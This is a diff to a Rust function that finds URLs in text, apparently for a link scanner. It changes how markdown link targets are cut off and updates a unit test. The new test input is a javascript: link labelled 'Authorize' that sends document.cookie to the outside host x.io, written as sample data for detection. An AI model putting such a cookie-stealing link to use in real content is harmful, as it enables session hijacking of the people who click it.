@@ -93,13 +93,13 @@ pub fn find_urls(text: &str) -> Vec<FoundUrl> {
         if start < covered {
             continue; // inside a URL already found (e.g. a redirect parameter)
         }
-        let end = url_end(bytes, m.end());
+        let before = &text[..start];
+        let link = before.ends_with("](");
+        let end = url_end(bytes, m.end(), link);
         if end <= m.end() {
             continue; // a bare scheme with nothing after it: prose about the scheme
         }
         covered = end;
-        let before = &text[..start];
-        let link = before.ends_with("](");
         let image = link && is_image(before);
         let quoted = before.ends_with('`')
             || before.ends_with("=\"")
@@ -130,14 +130,15 @@ fn is_scheme_byte(b: u8) -> bool {
 }
 
 /// Where a URL starting before `from` ends: at whitespace, quotes, angle brackets, a backtick, or
-/// an unbalanced closing parenthesis; trailing sentence punctuation is not part of it.
-fn url_end(bytes: &[u8], from: usize) -> usize {
+/// an unbalanced closing parenthesis; trailing sentence punctuation is not part of it. A markdown
+/// link target runs to its closing parenthesis, quotes included (`javascript:f('x')`).
+fn url_end(bytes: &[u8], from: usize, link: bool) -> usize {
     let mut depth = 0usize;
     let mut end = from;
     while end < bytes.len() {
         match bytes[end] {
             b if b.is_ascii_whitespace() => break,
-            b'"' | b'\'' | b'<' | b'>' | b'`' => break,
+            b'"' | b'\'' | b'<' | b'>' | b'`' if !link => break,
             b'(' => depth += 1,
             b')' if depth == 0 => break,
             b')' => depth -= 1,
@@ -187,8 +188,8 @@ mod tests {
 
     #[test]
     fn markdown_links_images_and_bare_urls() {
-        let u = urls("[Authorize](javascript:alert(document.cookie)) then ![logo](data:image/png;base64,AAAA) or see https://example.org/x.");
-        assert_eq!(u[0].0, "javascript:alert(document.cookie)");
+        let u = urls("[Authorize](javascript:fetch('//x.io/?'+document.cookie)) then ![logo](data:image/png;base64,AAAA) or see https://example.org/x.");
+        assert_eq!(u[0].0, "javascript:fetch('//x.io/?'+document.cookie)");
         assert!(u[0].1.link && !u[0].1.image && u[0].1.auth_words);
         assert_eq!(u[1].0, "data:image/png;base64,AAAA");
         assert!(u[1].1.image && !u[1].1.link);
